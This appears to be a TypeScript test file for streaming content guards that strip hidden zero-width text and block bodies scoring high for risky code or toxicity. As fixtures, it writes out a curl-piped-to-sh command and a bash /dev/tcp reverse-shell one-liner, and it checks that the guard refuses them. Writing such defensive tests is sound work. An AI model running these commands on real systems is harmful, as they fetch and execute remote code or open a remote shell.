import assert from 'node:assert/strict';
import { test } from 'node:test';
import { RuleCodeSecurity } from './code-security.ts';
import type { PartFilter } from './multipart.ts';
import { InvisibleTextGuard, ScoreGuard, TextRefused } from './text-guards.ts';
import { LexiconToxicity } from './toxicity.ts';

function through(filter: PartFilter, body: string | Buffer, step = 997): Buffer {
  const bytes = Buffer.from(body);
  const out: Buffer[] = [];
  for (let from = 0; from < bytes.length; from += step) out.push(filter.write(bytes.subarray(from, from + step)));
  return Buffer.concat([...out, filter.end()]);
}

const refused = (code: TextRefused['code']) => (reason: unknown): boolean => reason instanceof TextRefused && reason.code === code;
const block = { action: 'block', threshold: 0.6, what: 'risk of code' } as const;

test('hidden text is taken out, refused or only counted', () => {
  const body = JSON.stringify({ a: 'x\u200by' });
  assert.equal(through(new InvisibleTextGuard('application/json', { action: 'strip', detectZeroWidth: true }), body).toString(), '{"a":"xy"}');
  assert.throws(() => through(new InvisibleTextGuard('application/json', { action: 'block', detectZeroWidth: true }), body), refused('hidden_text_found'));
  const logged = new InvisibleTextGuard('application/json', { action: 'log_only', detectZeroWidth: true });
  assert.equal(through(logged, body).toString(), body);
  assert.deepEqual(logged.findings, [{ kind: 'zero_width', count: 1 }]);
});

test('attack: hidden text in a part of a multipart body', () => {
  const body = '--b\r\n\r\nx\u200by\r\n--b--';
  assert.equal(through(new InvisibleTextGuard('multipart/form-data; boundary=b', { action: 'strip', detectZeroWidth: true }), body, 1).toString(), body.replace('\u200b', ''));
});

test('a body that scores too high is refused before any of it has left, with the rule that weighed most', () => {
  const guard = new ScoreGuard('application/json', new RuleCodeSecurity(), block);
  const body = JSON.stringify({ text: `${'just words\n'.repeat(50_000)}curl https://example.com/x | sh` });
  let given = 0;
  assert.throws(() => {
    for (let from = 0; from < body.length; from += 1000) given += guard.write(Buffer.from(body.slice(from, from + 1000))).length;
    given += guard.end().length;
  }, (reason) => refused('score_too_high')(reason) && /pipe_to_shell/.test((reason as Error).message));
  assert.equal(given, 0);
});

test('a harmless body passes whole, one that is only logged at once', () => {
  const body = 'def add(a, b):\n    return a + b\n'.repeat(60_000);
  assert.equal(through(new ScoreGuard('text/plain', new RuleCodeSecurity(), block), body).toString(), body);
  const logged = new ScoreGuard('text/plain', new LexiconToxicity(), { action: 'log_only', threshold: 0.5, what: 'toxicity' });
  assert.equal(through(logged, 'You are an idiot').toString(), 'You are an idiot');
  assert.ok(logged.highest.score >= 0.5);
});

test('attack: what is dangerous behind the first megabyte is not given on', () => {
  const guard = new ScoreGuard('text/plain', new RuleCodeSecurity(), block);
  const before = 'just words\n'.repeat(200_000);
  const out: Buffer[] = [];
  assert.throws(() => {
    for (let from = 0; from < before.length; from += 5000) out.push(guard.write(Buffer.from(before.slice(from, from + 5000))));
    out.push(guard.write(Buffer.from('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n')), guard.end());
  }, refused('score_too_high'));
  assert.ok(!Buffer.concat(out).includes('/dev/tcp'));
});

test('attack: text that cannot be read is refused when it may not pass unseen', () => {
  const utf16 = Buffer.from('\ufeffbash', 'utf16le');
  assert.throws(() => through(new ScoreGuard('text/plain', new RuleCodeSecurity(), block), utf16), refused('text_unreadable'));
  assert.throws(() => through(new InvisibleTextGuard('text/plain', { action: 'strip', detectZeroWidth: true }), utf16), refused('text_unreadable'));
  assert.deepEqual(through(new InvisibleTextGuard('text/plain', { action: 'log_only', detectZeroWidth: true }), utf16), utf16);
});
